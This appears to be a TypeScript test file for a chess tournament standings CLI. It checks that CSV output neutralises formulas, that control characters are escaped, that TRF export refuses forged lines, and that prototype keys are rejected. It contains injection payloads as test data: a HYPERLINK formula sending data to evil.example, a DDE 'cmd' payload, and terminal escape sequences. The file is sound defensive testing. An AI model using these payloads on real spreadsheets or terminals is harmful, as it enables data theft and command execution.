/**
 * Issue 17, part D: output that can hurt the next program, money, and the CLI's small things.
 * Each class from the issue with cases of our own beside the issue's:
 *
 * 1. CSV formula injection: every CSV the CLI writes (standings, team standings, prizes, board
 *    prizes) neutralises text cells as the Sheets writer does; numbers stay numbers; --csv-raw
 *    writes names as read.
 * 2. Terminal escape sequences: table output, --explain text and error messages show control
 *    characters as \xNN instead of sending them to the terminal.
 * 3. export-trf refuses a control character in any text field (--name, a player's name).
 * 4. Option names typed by a user are looked up as own properties only (__proto__, constructor).
 * 5. Money: no prize, and no sum of prizes, beyond MAX_PRIZE_FUND_CENTS, so no cent is lost.
 * 6. --explain N --format json is JSON; an empty tiebreak code is a usage error.
 */
import fs from 'node:fs';
import path from 'node:path';
import { runCli } from '../support/cli';
import { neutralise as sheetsNeutralise } from '../../src/sheets/standingsSheet';
import { csvLine, fixedWidthLines, neutralise } from '../../src/standings/text';
import { MAX_PRIZE_FUND_CENTS } from '../../src/prizes/money';
import { STANDINGS, TIEBREAK } from '../../src/sheets/customFunctions';
import { namedFunction } from '../../src/sheets/namedFunctions';
import type { SheetRange } from '../../src/sheets/arguments';
import { splitTableOptions } from '../../src/sheets/tableOptions';

/** =MODMEDIAN as the build makes it: one line of src/sheets/namedFunctions.ts. */
const MODMEDIAN = (crosstable: SheetRange, player?: unknown, after_round?: unknown, options?: unknown) =>
  namedFunction('MODMEDIAN', crosstable, player, after_round, options);

const example = (name: string) => fs.readFileSync(path.join(__dirname, '../../examples', name), 'utf8');
const SWISS = example('spring-swiss.csv');
const TEAMS = example('team-swiss.csv');
const BOARDS = example('team-boards.csv');
const PRIZES = example('spring-prizes.csv');

/** A CSV field holding `text` (quoted, as a director's file would quote it). */
const quoted = (text: string) => `"${text.replace(/"/g, '""')}"`;

/** The CSV as a spreadsheet reads it (RFC 4180): rows of cell texts. */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let inQuotes = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (inQuotes) {
      if (ch === '"' && text[i + 1] === '"') ((cell += '"'), i++);
      else if (ch === '"') inQuotes = false;
      else cell += ch;
    } else if (ch === '"') inQuotes = true;
    else if (ch === ',') (row.push(cell), (cell = ''));
    else if (ch === '\n') (row.push(cell), rows.push(row), (row = []), (cell = ''));
    else cell += ch;
  }
  if (cell || row.length) (row.push(cell), rows.push(row));
  return rows;
}

/** The column `header` of a parsed CSV, below the header. */
function column(csv: string, header: string): string[] {
  const [head, ...rows] = parseCsv(csv);
  const c = head.indexOf(header);
  if (c < 0) throw new Error(`no column ${header} in ${head.join(',')}`);
  return rows.map((r) => r[c]);
}

/** Names a spreadsheet would run, each with what the CSV cell must hold instead. */
const FORMULAS: [string, string][] = [
  ['=HYPERLINK("http://evil.example/?"&A1,"Click")', `'=HYPERLINK("http://evil.example/?"&A1,"Click")`],
  ['+1+1', "'+1+1"],
  ['@SUM(A1)', "'@SUM(A1)"],
  ["-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"],
];

// ---------------------------------------------------------------------------------------------
describe('1. CSV output is neutralised for a spreadsheet', () => {
  test.each(FORMULAS)('standings: the name %s is written as text', (name, cell) => {
    const r = runCli(['standings', 'swiss.csv', '--format', 'csv'], {
      'swiss.csv': SWISS.replace('Marcus Webb', quoted(name)),
    });
    expect(r.status).toBe(0);
    expect(column(r.out, 'name')[0]).toBe(cell);
    // Numbers stay numbers: the rest of Marcus Webb's row is unchanged.
    expect(parseCsv(r.out)[1].slice(0, 6)).toEqual(['1', '1-3', '1', cell, '2104', '4']);
  });

  test('a name whose formula follows spaces or a tab is read trimmed, and still neutralised', () => {
    // The reader trims a name: what remains starts with = and gets the apostrophe.
    const csv = SWISS.replace('Marcus Webb', quoted('\t=1+1')).replace('Elena Sokolova', quoted('  -1+2'));
    const r = runCli(['standings', 'swiss.csv', '--format', 'csv'], { 'swiss.csv': csv });
    expect(r.status).toBe(0);
    expect(column(r.out, 'name')).toEqual(expect.arrayContaining(["'=1+1", "'-1+2"]));
  });

  test('a text cell starting with a tab or a carriage return is shown as \\xNN, so it cannot start a formula', () => {
    expect(csvLine(['\t=1+1', '\r=2+2', '=3'])).toBe("\\x09=1+1,\\x0D=2+2,'=3");
    expect(neutralise('\t=1')).toBe("'\t=1");
    expect(neutralise('\r=1')).toBe("'\r=1");
  });

  test('team standings: a team name that is a formula is written as text', () => {
    const r = runCli(['standings', 'teams.csv', '--format', 'csv'], {
      'teams.csv': TEAMS.replace('Ann Arbor Knights', '=1+1'),
    });
    expect(r.status).toBe(0);
    expect(column(r.out, 'team')).toContain("'=1+1");
  });

  test('board prizes: player and team names that are formulas are written as text', () => {
    const r = runCli(['boards', 'boards.csv', '--format', 'csv'], {
      'boards.csv': BOARDS.replace(/Gus Gray/g, '@SUM(A1)').replace(/Saginaw Sharks/g, '+1+1'),
    });
    expect(r.status).toBe(0);
    expect(column(r.out, 'player')).toContain("'@SUM(A1)");
    expect(column(r.out, 'team')).toContain("'+1+1");
    expect(column(r.out, 'player')).not.toContain('@SUM(A1)');
  });

  test('prizes: a trophy named like a formula and a winner named like one are written as text', () => {
    const crosstable = SWISS.replace('Marcus Webb', '=HYPERLINK("x")');
    const r = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv'], {
      'swiss.csv': crosstable,
      'prizes.csv': PRIZES.replace('Book prize', '@Trophy'),
    });
    expect(r.status).toBe(0);
    expect(column(r.out, 'name')).toContain(`'=HYPERLINK("x")`);
    expect(column(r.out, 'prize')).toContain("'@Trophy");
    // Cash stays a plain amount a spreadsheet adds up.
    expect(column(r.out, 'award').slice(0, 3)).toEqual(['100.00', '100.00', '100.00']);
  });

  test('--csv-raw writes every name exactly as read, for a program that reads the CSV', () => {
    const r = runCli(['standings', 'swiss.csv', '--format', 'csv', '--csv-raw'], {
      'swiss.csv': SWISS.replace('Marcus Webb', quoted('=1+1\u001b')),
    });
    expect(r.status).toBe(0);
    expect(column(r.out, 'name')[0]).toBe('=1+1\u001b');
    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--format', 'csv', '--csv-raw'], {
      'swiss.csv': SWISS.replace('Marcus Webb', '+1+1'),
      'prizes.csv': PRIZES,
    });
    expect(column(prizes.out, 'name')).toContain('+1+1');
  });

  test('--csv-raw without --format csv is a usage error', () => {
    const r = runCli(['standings', 'swiss.csv', '--csv-raw'], { 'swiss.csv': SWISS });
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err.split('\n')[0]).toBe('--csv-raw applies to --format csv; got --format table.');
  });

  test('one rule for Sheets and CSV: text is neutralised, numbers are not', () => {
    expect(sheetsNeutralise).toBe(neutralise);
    expect(neutralise('=1+1')).toBe("'=1+1");
    expect(neutralise(-3)).toBe(-3);
    expect(neutralise('Ann Adams')).toBe('Ann Adams');
    expect(csvLine([-3, '-3', 'a,b'])).toBe(`-3,'-3,"a,b"`);
    expect(csvLine(['-3'], { raw: true })).toBe('-3');
  });
});

// ---------------------------------------------------------------------------------------------
/** Raw control characters a terminal would obey (C0 but the line break, DEL, C1). */
const OBEYED = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f]/;

describe('2. Control characters are shown, not sent to the terminal', () => {
  const hostile = 'Marcus\u001b[2J\u001b]0;pwned\u0007 Webb\u009b31m';
  const files = { 'swiss.csv': SWISS.replace('Marcus Webb', quoted(hostile)) };

  test('--format table shows ESC, BEL and CSI as \\xNN and keeps the columns aligned', () => {
    const r = runCli(['standings', 'swiss.csv'], files);
    expect(r.status).toBe(0);
    expect(r.out).not.toMatch(OBEYED);
    const lines = r.out.split('\n');
    expect(lines[2]).toContain('Marcus\\x1B[2J\\x1B]0;pwned\\x07 Webb\\x9B31m');
    // The Rating column starts at the same place in the header and in every row.
    const at = lines[0].indexOf('Rating');
    expect(lines[2].slice(at - 2, at + 6).trim()).toBe('2104');
  });

  test('a cell with a line break stays on its line of the table', () => {
    expect(fixedWidthLines(['Name', 'No.'], [['Ann\nAdams', '1']], (c) => c === 1)).toEqual([
      'Name          No.',
      '------------  ---',
      'Ann\\x0AAdams    1',
    ]);
  });

  test('--explain text shows control characters as \\xNN', () => {
    const r = runCli(['standings', 'swiss.csv', '--explain', '1'], files);
    expect(r.status).toBe(0);
    expect(r.out).not.toMatch(OBEYED);
    expect(r.out.split('\n')[0]).toMatch(/^#1 Marcus\\x1B\[2J\\x1B\]0;pwned\\x07 Webb\\x9B31m: score 4 after 5 rounds/);
  });

  test('an error message quoting a cell shows control characters as \\xNN', () => {
    const r = runCli(['standings', 'swiss.csv'], { 'swiss.csv': SWISS.replace('W8W', quoted('W8W\u001b[2J')) });
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err).not.toMatch(OBEYED);
    expect(r.err).toContain('E2: "W8W\\x1B[2J"');
  });

  test('a usage error quoting an argument shows control characters as \\xNN', () => {
    const r = runCli(['standings', 'swiss.csv', '--format', 'csv\u001b[2J'], files);
    expect(r.status).toBe(2);
    expect(r.err.split('\n')[0]).toBe('--format must be table, csv or json; got "csv\\x1B[2J".');
  });

  test('team tables, board prizes and prize lists are printed the same way', () => {
    const team = runCli(['standings', 'teams.csv'], {
      'teams.csv': TEAMS.replace('Ann Arbor Knights', 'Ann\u001b[31m Arbor'),
    });
    expect(team.status).toBe(0);
    expect(team.out).toContain('Ann\\x1B[31m Arbor');
    const boards = runCli(['boards', 'boards.csv'], { 'boards.csv': BOARDS.replace(/Gus Gray/g, 'Gus\u001b[5m Gray') });
    expect(boards.status).toBe(0);
    expect(boards.out).toContain('Gus\\x1B[5m Gray');
    // 16 prizes for 15 players: the last is not awarded, and its line quotes the prize's name.
    const many = [
      'Group,Place,Prize',
      ...Array.from({ length: 16 }, (_, i) => `Overall,${i + 1},Cup${i === 15 ? '\u001b[8m' : ''}`),
    ].join('\n');
    const prizes = runCli(['prizes', 'swiss.csv', 'prizes.csv', '--one-prize', 'off'], {
      'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus\u001b[1m Webb'),
      'prizes.csv': many,
    });
    expect(prizes.status).toBe(0);
    for (const r of [team, boards, prizes]) expect(r.out).not.toMatch(OBEYED);
    expect(prizes.out).toContain('Marcus\\x1B[1m Webb');
    expect(prizes.out).toContain('Overall 16th (Cup\\x1B[8m): not awarded');
  });
});

// ---------------------------------------------------------------------------------------------
describe('3. export-trf refuses a control character in any field it writes', () => {
  test('--name with a line break would forge a record: refused, naming the field', () => {
    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Open\n001 9999      Forged Player'], {
      'swiss.csv': SWISS,
    });
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err).toBe(
      'the event name (--name, TRF line 012) holds a line break (U+000A) at character 5; expected one line of printable text.\n',
    );
  });

  test('--name with ESC or a carriage return is refused too', () => {
    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\u001b[2J'], { 'swiss.csv': SWISS }).err).toContain(
      'holds a control character (U+001B) at character 5',
    );
    expect(runCli(['export-trf', 'swiss.csv', '--name', 'Open\r'], { 'swiss.csv': SWISS }).err).toContain(
      'holds a line break (U+000D) at character 5',
    );
  });

  test("a player's name with a control character is refused with the player's row", () => {
    const csv = SWISS.replace('Elena Sokolova', quoted('Elena\u0085Sokolova')).replace(
      'David Okafor',
      quoted('David\u001bOkafor'),
    );
    const r = runCli(['export-trf', 'swiss.csv'], { 'swiss.csv': csv });
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err.split('\n').filter(Boolean)).toEqual([
      "A3: player 2's name holds a control character (U+0085) at character 6; a TRF name (line 001) is printable text on one line; expected the name without it.",
      "A4: player 3's name holds a control character (U+001B) at character 6; a TRF name (line 001) is printable text on one line; expected the name without it.",
    ]);
  });

  test('an ordinary name with accents is written as before', () => {
    const r = runCli(['export-trf', 'swiss.csv', '--name', 'Spring Open — Łódź 2026'], {
      'swiss.csv': SWISS.replace('Marcus Webb', 'Marcus Wébb'),
    });
    expect(r.status).toBe(0);
    expect(r.out.split('\n')[0]).toBe('012 Spring Open — Łódź 2026');
    expect(r.out).toContain('Marcus Wébb');
  });
});

// ---------------------------------------------------------------------------------------------
describe('4. Option names are looked up as own properties only', () => {
  const valid = [
    ['No.', 'Name', 'R1', 'R2'],
    [1, 'Ann', 'W2', 'W3'],
    [2, 'Ben', 'L1', 'B'],
    [3, 'Cai', 'B', 'L1'],
  ];

  test.each(['MM:__proto__=1', 'MM(__proto__=1)', 'SB(__PROTO__=adjusted)'])(
    'CLI --tiebreaks %s is a usage error naming the option',
    (order) => {
      const r = runCli(['standings', 'swiss.csv', '--tiebreaks', order], { 'swiss.csv': SWISS });
      expect(r.status).toBe(2);
      expect(r.out).toBe('');
      expect(r.err.split('\n')[0]).toMatch(/^(MM|SB) has no option "__proto__" \(its options: .+\)\.$/);
    },
  );

  test('a FIDE code with a modifier and __proto__ is refused too', () => {
    const r = runCli(['standings', 'swiss.csv', '--tiebreaks', 'BH/C1(__proto__=x)'], { 'swiss.csv': SWISS });
    expect(r.status).toBe(2);
    expect(r.err.split('\n')[0]).toMatch(/^FIDE-BH has no option "__proto__"/);
  });

  test('the custom functions refuse __proto__ in a code the same way', () => {
    expect(() => TIEBREAK(valid, 'MM:__proto__=1')).toThrow(/^MM has no option "__proto__"/);
    expect(() => STANDINGS(valid, 'MM(__proto__=1), SOLK')).toThrow(/^MM has no option "__proto__"/);
  });

  test.each(['constructor=1', 'toString=us', 'hasOwnProperty=1', 'valueOf=x'])(
    'an options argument %s is an unknown option, not a crash',
    (options) => {
      expect(() => STANDINGS(valid, 'MM', '', '', options)).toThrow(
        new Error(`Unknown option "${options}"; expected ${splitTableOptionsShapes()}, separated by ";".`),
      );
      expect(splitTableOptions(options)).toEqual({ table: {}, rest: [options] });
      expect(() => MODMEDIAN(valid, '', '', options)).toThrow(/^Unknown option/);
    },
  );

  test('a round-robin cell reading "constructor" is a bad result with its cell, not a crash', () => {
    const rr = ['No.,Name,1,2,3', '1,Ann,*,1,constructor', '2,Ben,0,*,1', '3,Cai,0,0,*'].join('\n') + '\n';
    const r = runCli(['standings', 'rr.csv', '--notation', 'rr'], { 'rr.csv': rr });
    expect(r.status).toBe(2);
    expect(r.err.split('\n')[0]).toMatch(/^E2: "constructor" cannot be read: expected 1, ½/);
  });
});

/** The table options' shapes as tableOptionsArg lists them. */
function splitTableOptionsShapes(): string {
  try {
    STANDINGS(
      [
        ['No.', 'Name', 'R1'],
        [1, 'Ann', 'W2'],
        [2, 'Ben', 'L1'],
      ],
      'MM',
      '',
      '',
      'zz=1',
    );
  } catch (e) {
    return /expected (.*), separated by ";"\.$/.exec((e as Error).message)![1];
  }
  throw new Error('zz=1 was accepted');
}

// ---------------------------------------------------------------------------------------------
describe('5. Money is counted to the cent: no prize and no sum beyond the stated maximum', () => {
  const files = (prizes: string) => ({ 'swiss.csv': SWISS, 'prizes.csv': prizes });

  test('two prizes whose pool passes 2^53 cents are refused at the first prize over the maximum', () => {
    // Each under 2^53 cents, their sum over it: pooled among the three tied on 4 points, 3 × 3333333333333333
    // cents were paid of 10000000000000001, and exit status 0.
    const r = runCli(
      ['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'],
      files('Group,Place,Prize\nOverall,1,"$50,000,000,000,000.00"\nOverall,2,"$50,000,000,000,000.01"\n'),
    );
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err.split('\n')[0]).toBe(
      'C2: "$50,000,000,000,000.00" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.',
    );
  });

  test('prizes each within the maximum whose sum passes it are refused at the prize that passes it', () => {
    const r = runCli(
      ['prizes', 'swiss.csv', 'prizes.csv'],
      files('Group,Place,Prize\nOverall,1,"$600,000,000,000.00"\nOverall,2,"$400,000,000,000.00"\nOverall,3,$0.01\n'),
    );
    expect(r.status).toBe(2);
    expect(r.err).toBe(
      'C4: the cash prizes down to this one add up to $1,000,000,000,000.01, more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected prizes that add up to no more.\n',
    );
  });

  test('an amount too long to count to the cent says so, rather than "not an amount"', () => {
    const r = runCli(
      ['prizes', 'swiss.csv', 'prizes.csv'],
      files('Group,Place,Prize\nOverall,1,$100000000000000000000\n'),
    );
    expect(r.status).toBe(2);
    expect(r.err).toBe(
      'C2: "$100000000000000000000" is more than the largest prize fund this add-on pays to the cent, $1,000,000,000,000.00; expected a smaller amount.\n',
    );
  });

  test('a fund of exactly the maximum is paid to the cent', () => {
    expect(MAX_PRIZE_FUND_CENTS).toBe(100_000_000_000_000);
    const r = runCli(
      ['prizes', 'swiss.csv', 'prizes.csv', '--format', 'json'],
      files('Group,Place,Prize\nOverall,1,"$500,000,000,000.00"\nOverall,2,"$499,999,999,999.99"\nOverall,3,$0.01\n'),
    );
    expect(r.status).toBe(0);
    const cents = (JSON.parse(r.out) as { prizes: { cents: number | null }[] }).prizes.map((p) => p.cents!);
    // Three players tie on 4 points: the pool of all three is split, and every cent is paid.
    expect(cents.reduce((a, b) => a + b, 0)).toBe(MAX_PRIZE_FUND_CENTS);
    expect(cents).toEqual([33_333_333_333_334, 33_333_333_333_333, 33_333_333_333_333]);
  });
});

// ---------------------------------------------------------------------------------------------
describe('6. --explain as JSON; an empty tiebreak code is a usage error', () => {
  test('--explain N --format json gives each tiebreak with its code, value and explanation', () => {
    const r = runCli(['standings', 'swiss.csv', '--explain', '1', '--format', 'json'], { 'swiss.csv': SWISS });
    expect(r.status).toBe(0);
    const json = JSON.parse(r.out);
    expect(json).toMatchObject({ number: 1, name: 'Marcus Webb', score: 4, rounds: 5, place: '1-3' });
    expect(json.tiebreaks.map((t: { code: string }) => t.code)).toEqual(['MM', 'SOLK', 'CUM', 'OPPCUM']);
    const mm = json.tiebreaks[0];
    expect(mm).toMatchObject({ code: 'MM', name: 'Modified Median', value: 14 });
    expect(mm.explanation).toMatch(/^opponents R1 #8 /);
    // The text form says the same.
    const text = runCli(['standings', 'swiss.csv', '--explain', '1'], { 'swiss.csv': SWISS }).out;
    expect(text).toContain(`MM (Modified Median, ${mm.rule}): 14 = ${mm.explanation}`);
  });

  test('a tiebreak no tie needed is null, with no explanation', () => {
    const r = runCli(['standings', 'swiss.csv', '--explain', '15', '--format', 'json'], { 'swiss.csv': SWISS });
    const json = JSON.parse(r.out);
    const unused = json.tiebreaks.filter((t: { value: number | null }) => t.value === null);
    for (const t of unused) expect(t.explanation).toBeNull();
    const text = runCli(['standings', 'swiss.csv', '--explain', '15'], { 'swiss.csv': SWISS }).out;
    expect(text.split('\n').filter((l) => l.endsWith('not needed (no tie left at this step)'))).toHaveLength(
      unused.length,
    );
  });

  test('a team table: --explain N --format json too', () => {
    const r = runCli(['standings', 'teams.csv', '--explain', '1', '--format', 'json'], { 'teams.csv': TEAMS });
    expect(r.status).toBe(0);
    expect(JSON.parse(r.out)).toMatchObject({ number: 1, name: 'Ann Arbor Knights', score: 6 });
  });

  test.each([
    [',', '"," has an empty tiebreak code (code 1 of the list is blank)'],
    ['MM,,SOLK', '"MM,,SOLK" has an empty tiebreak code (code 2 of the list is blank)'],
    ['MM,', '"MM," has an empty tiebreak code (code 2 of the list is blank)'],
    [';MM', '";MM" has an empty tiebreak code (code 1 of the list is blank)'],
    ['MM, ,SOLK', '"MM, ,SOLK" has an empty tiebreak code (code 2 of the list is blank)'],
  ])('--tiebreaks "%s" is a usage error', (order, message) => {
    const r = runCli(['standings', 'swiss.csv', '--tiebreaks', order], { 'swiss.csv': SWISS });
    expect(r.status).toBe(2);
    expect(r.out).toBe('');
    expect(r.err).toBe(
      `${message}; expected codes separated by commas, such as "MM, SOLK, CUM".\nRun "tiebreaks --help" for every command and its options.\n`,
    );
  });

  test('--tiebreaks "" is a usage error, not the default order', () => {
    const r = runCli(['standings', 'swiss.csv', '--tiebreaks', ' '], { 'swiss.csv': SWISS });
    expect(r.status).toBe(2);
    expect(r.err.split('\n')[0]).toBe(
      '--tiebreaks is empty; expected codes such as "MM, SOLK, CUM", or leave it out for the US Chess order.',
    );
  });

  test('commas with spaces, spaces alone and options in parentheses still read as before', () => {
    for (const order of ['MM, SOLK', 'MM SOLK', 'MM;SOLK', 'KASH(unplayed=2), MM']) {
      expect(runCli(['standings', 'swiss.csv', '--tiebreaks', order], { 'swiss.csv': SWISS }).status).toBe(0);
    }
  });

  test('STANDINGS in a sheet refuses an empty code the same way', () => {
    expect(() =>
      STANDINGS(
        [
          ['No.', 'Name', 'R1'],
          [1, 'Ann', 'W2'],
          [2, 'Ben', 'L1'],
        ],
        'MM,,SOLK',
      ),
    ).toThrow(
      new Error(
        '"MM,,SOLK" has an empty tiebreak code (code 2 of the list is blank); expected codes separated by commas, such as "MM, SOLK, CUM".',
      ),
    );
  });
});
